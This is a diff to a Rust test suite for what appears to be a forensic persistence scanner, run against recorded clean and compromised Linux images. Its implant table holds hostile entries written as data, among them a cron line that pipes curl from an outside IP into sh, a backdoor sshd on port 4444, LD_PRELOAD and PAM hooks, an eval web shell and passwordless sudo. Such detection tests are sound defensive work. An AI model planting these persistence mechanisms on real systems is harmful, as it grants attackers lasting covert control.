@@ -23,8 +23,8 @@ pub fn rows(device: &str, command: &str) -> Vec<Value> {
     assert_eq!(answer.completed.status, Status::Completed, "{device}: {command}: {:?}", answer.completed);
     let mut rows = answer.rows();
     for row in rows.iter_mut().filter_map(Value::as_object_mut) {
-        for key in ["unit_modified", "modified", "created"] {
-            if row.contains_key(key) {
+        for key in ["unit_modified", "modified", "created", "next_run"] {
+            if row.get(key).is_some_and(Value::is_string) {
                 row.insert(key.to_owned(), Value::from("(when)"));
             }
         }
@@ -33,9 +33,9 @@ pub fn rows(device: &str, command: &str) -> Vec<Value> {
 }
 
 #[test]
-fn services_and_drivers_are_as_recorded() {
+fn rows_are_as_recorded() {
     for device in DEVICES {
-        for command in ["services", "drivers"] {
+        for command in ["services", "drivers", "scheduledtasks", "startupfolders"] {
             insta::assert_json_snapshot!(format!("{device}-{command}"), rows(device, command));
         }
     }
@@ -59,4 +59,91 @@ fn what_was_planted_stands_out() {
     for device in ["clean-server", "desktop"] {
         assert!(rows(device, "drivers").iter().all(|row| row["hidden"] == false), "{device}");
     }
+}
+
+/// The entries of `persistence` on a recorded device, each with the list it stands in.
+fn persistent(device: &str) -> Vec<(String, Value)> {
+    let answer = Device::at(&tree(device)).run("persistence", &[], &[]);
+    assert_eq!(answer.completed.status, Status::Completed, "{device}: {:?}", answer.completed);
+    let object = answer.object();
+    let lists = object["autoruns"].as_object().unwrap().iter();
+    let entries =
+        lists.flat_map(|(list, entries)| entries.as_array().unwrap().iter().map(move |one| (list.clone(), one.clone())));
+    let mut entries: Vec<(String, Value)> = entries.collect();
+    for (_, entry) in &mut entries {
+        entry["modified"] = Value::from("(when)");
+    }
+    entries
+}
+
+#[test]
+fn persistence_is_as_recorded() {
+    for device in DEVICES {
+        insta::assert_json_snapshot!(format!("{device}-persistence"), persistent(device));
+    }
+}
+
+#[test]
+fn every_implant_is_found_and_none_reads_shipped() {
+    // The list that it stands in, where, what it runs.
+    let implants = [
+        ("services", "/etc/systemd/system/dbus-update.service", ""),
+        ("services", "/run/systemd/transient/run-r1f.service", ""),
+        ("services", "/etc/systemd/system/cron.service.d/override.conf", "/dev/shm/.x/loader"),
+        ("services", "/etc/systemd/system/nginx.service.d/10-env.conf", "LD_PRELOAD=/usr/local/lib/libnss_cache.so"),
+        ("init", "/etc/init.d/netfs-helper", ""),
+        ("init", "/etc/rc.local", ""),
+        ("init", "/etc/systemd/system-generators/fs-gen", ""),
+        ("kernel_modules", "/usr/lib/modules/6.1.0-37-amd64/updates/nf_helper.ko", ""),
+        ("kernel_modules", "/etc/modules-load.d/nf_helper.conf:1", "nf_helper"),
+        ("schedule_tasks", "/etc/cron.d/sysstat-update:1", "curl -fsSL http://203.0.113.9/x | sh"),
+        ("schedule_tasks", "/etc/cron.daily/logcheck2", ""),
+        ("schedule_tasks", "/var/spool/cron/crontabs/www-data:1", "/var/tmp/.ICE-unix/sshd -p 4444"),
+        ("schedule_tasks", "/home/deploy/.config/systemd/user/sync.timer:2", "/home/deploy/.local/bin/sync"),
+        ("at", "/var/spool/cron/atjobs/a0000301c9a1b2", "/var/tmp/.ICE-unix/sshd"),
+        ("authorized_keys", "/root/.ssh/authorized_keys:1", "/usr/lib/.cache/sh"),
+        ("preload", "/etc/ld.so.preload:1", "/usr/local/lib/libnss_cache.so"),
+        ("udev", "/etc/udev/rules.d/75-net-fix.rules:1", "/usr/lib/.cache/up %k"),
+        ("motd", "/etc/update-motd.d/98-fetch", ""),
+        ("package_hooks", "/etc/apt/apt.conf.d/99-periodic:1", "/dev/shm/.x/loader"),
+        ("pam", "/etc/pam.d/common-auth:3", "pam_exec.so"),
+        ("pam", "/usr/lib/x86_64-linux-gnu/security/pam_unix.so", ""),
+        ("shell_profiles", "/etc/profile.d/locale-fix.sh", ""),
+        ("shell_profiles", "/root/.bashrc", ""),
+        ("startup_folders", "/etc/xdg/autostart/at-spi-fix.desktop", "/usr/lib/.cache/up"),
+        ("web", "/var/www/html/img/thumb.php", "runs code that is sent to it (eval)"),
+        ("ssh", "/etc/ssh/sshrc", ""),
+        ("ssh", "/etc/ssh/sshd_config.d/50-cloud.conf:1", "AuthorizedKeysCommand /usr/lib/.cache/keys"),
+        ("privileges", "/etc/sudoers.d/90-www:1", "NOPASSWD: ALL"),
+        ("privileges", "/etc/passwd:4", "sysadm is user 0"),
+        ("network", "/etc/NetworkManager/dispatcher.d/90-fix", ""),
+        ("other", "/etc/logrotate.d/apt2:3", "/dev/shm/.x/loader"),
+        ("other", "/usr/local/lib/python3.11/dist-packages/zz-compat.pth:1", "os.system"),
+    ];
+    let found = persistent("compromised-server");
+    for (list, location, runs) in implants {
+        let here = found.iter().find(|(at, entry)| at == list && entry["location"] == location);
+        let (_, entry) = here.unwrap_or_else(|| panic!("{location} is not in {list}: {found:#?}"));
+        assert_eq!(entry["shipped"], false, "{entry}");
+        assert!(entry["runs"].as_str().unwrap_or_default().contains(runs), "{entry}");
+        assert!(entry["technique"].as_str().unwrap().starts_with('T'), "{entry}");
+    }
+    // What is not an implant is what the clean server has too.
+    let clean = persistent("clean-server");
+    let same = |entry: &Value| clean.iter().any(|(_, other)| other["location"] == entry["location"]);
+    let planted: Vec<&Value> =
+        found.iter().map(|(_, entry)| entry).filter(|entry| entry["shipped"] == false && !same(entry)).collect();
+    for entry in planted {
+        let of_implant = implants.iter().any(|(_, location, _)| entry["location"] == *location)
+            || entry["location"].as_str().unwrap().contains("sync.service");
+        assert!(of_implant, "{entry}");
+    }
+}
+
+#[test]
+fn on_a_clean_server_almost_everything_is_shipped() {
+    let found = persistent("clean-server");
+    let foreign: Vec<_> = found.iter().filter(|(_, entry)| entry["shipped"] != true).collect();
+    assert!(foreign.len() <= 5, "{foreign:#?}");
+    assert!(found.len() > 20, "{found:#?}");
 }
